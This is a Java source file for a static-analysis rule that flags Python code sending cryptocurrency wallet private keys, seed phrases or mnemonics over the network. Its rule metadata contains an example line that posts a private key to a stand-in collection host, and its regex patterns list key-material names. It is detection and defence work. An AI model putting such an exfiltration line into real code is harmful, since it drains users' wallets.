package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.Destinations;
import dev.kingsnake.rules.shared.SecretValues;
import dev.kingsnake.spi.python.Expr;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Wallet key material (a private key, a seed phrase or mnemonic) put into data that leaves over the network.
 * Wallet libraries sign locally; sending the key itself anywhere is what wallet drainers do.
 */
public final class KeyMaterialSendRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-KEY-MATERIAL",
            "Sends wallet key material over the network: a value named like a private key, seed phrase or "
                    + "mnemonic is part of the data of a POST, upload, bot message or run-time built request URL",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION),
            "requests.post('https://collect.example.invalid/k', json={'key': private_key})",
            "Only private keys, seed phrases and mnemonics count (not API secrets or tokens, which clients "
                    + "legitimately send to their own service), and only when the named value is inside the data "
                    + "of a sending call, directly or through a variable assigned in the same function.");

    /** Identifiers of key material: private_key, privkey, priv_key, seed_phrase, mnemonic, recovery phrase... */
    static final Pattern KEY_NAME = Pattern.compile(
            "(?i)^_*(\\w*_)?(private_?key|priv_?key|pk_?hex|secret_?phrase|seed_?phrase|seed_?words|mnemonic"
                    + "|mnemonic_?phrase|recovery_?phrase|wallet_?seed|keypair_?secret)(_\\w*)?s?$");

    /** Names that only wallets have; a plain "private key" needs the file to be about wallets. */
    private static final Pattern WALLET_ONLY_NAME = Pattern.compile("(?i)(seed|mnemonic|recovery|phrase|wallet)");
    /** Words of cryptocurrency wallets in the file's strings or imported modules. */
    private static final Pattern WALLET_CONTEXT = Pattern.compile(
            "(?i)(wallet|mnemonic|seed.?phrase|\\btron|solana|solders|ethereum|\\beth_|web3|bitcoin|\\bbtc\\b"
                    + "|keypair|lamports|metamask|phantom|base58|bip_?39|bip_?32|secp256k1|coincurve|tronpy)");

    private static boolean walletContext(PythonFile file, CallFacts facts) {
        for (CallFacts.StringFact s : facts.strings()) {
            if (WALLET_CONTEXT.matcher(s.text()).find()) {
                return true;
            }
        }
        for (dev.kingsnake.spi.python.Stmt st : file.imports()) {
            if (WALLET_CONTEXT.matcher(importText(st)).find()) {
                return true;
            }
        }
        return false;
    }

    private static String importText(dev.kingsnake.spi.python.Stmt st) {
        StringBuilder sb = new StringBuilder();
        if (st instanceof dev.kingsnake.spi.python.Stmt.ImportFrom f) {
            sb.append(f.module()).append(' ');
            f.names().forEach(a -> sb.append(a.name()).append(' '));
        } else if (st instanceof dev.kingsnake.spi.python.Stmt.Import i) {
            i.names().forEach(a -> sb.append(a.name()).append(' '));
        }
        return sb.toString();
    }

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        if (!facts.fileCaps().contains(Capability.NETWORK)) {
            return;
        }
        for (CallFacts.CallFact c : facts.calls()) {
            boolean send = c.is(Capability.SEND);
            boolean urlData = !send && c.is(Capability.FETCH)
                    && Destinations.builtAtRunTime(facts, c.call(), c.scope());
            if (!send && !urlData) {
                continue;
            }
            List<Expr> data = new ArrayList<>(c.call().args());
            for (Expr.Keyword k : c.call().keywords()) {
                if (!"headers".equals(k.name()) && !"auth".equals(k.name())) {
                    data.add(k.value());
                }
            }
            Optional<String> named = SecretValues.named(facts, c.scope(), data, keyNames(file, facts, c.scope()));
            if (named.isPresent() && !WALLET_ONLY_NAME.matcher(named.get()).find() && !walletContext(file, facts)) {
                continue; // "private key" of an API (reCAPTCHA, payment gateways) is a shared secret, not a wallet key
            }
            if (named.isPresent()) {
                sink.report(file, c.call(), "sends wallet key material ('" + named.get() + "') over the network");
            }
        }
    }

    /** Wallet APIs that turn a private key or mnemonic into an account: what they are given is key material. */
    private static final Set<String> KEY_LOADERS = Set.of("from_key", "from_mnemonic", "from_base58_string",
            "from_seed", "from_secret_key", "from_private_key", "privateKeyToAccount", "from_seed_phrase");

    /**
     * Key-material names, plus the variables of this scope handed to a key-loading API whatever they are called
     * ({@code Account.from_key(validate_key)}): their role is fixed by the API they are given to.
     */
    private static Pattern keyNames(PythonFile file, CallFacts facts, int scope) {
        Set<String> loaded = new java.util.TreeSet<>();
        for (CallFacts.CallFact c : facts.calls()) {
            if (c.scope() == scope && KEY_LOADERS.contains(c.method()) && c.call().arg(0).orElse(null) instanceof Expr.Name n) {
                loaded.add(Pattern.quote(n.id()));
            }
        }
        return loaded.isEmpty() ? KEY_NAME : Pattern.compile(KEY_NAME.pattern() + "|^(" + String.join("|", loaded) + ")$");
    }

    /** Calls whose result still contains their arguments: serialising, encoding, formatting, containers. */
}
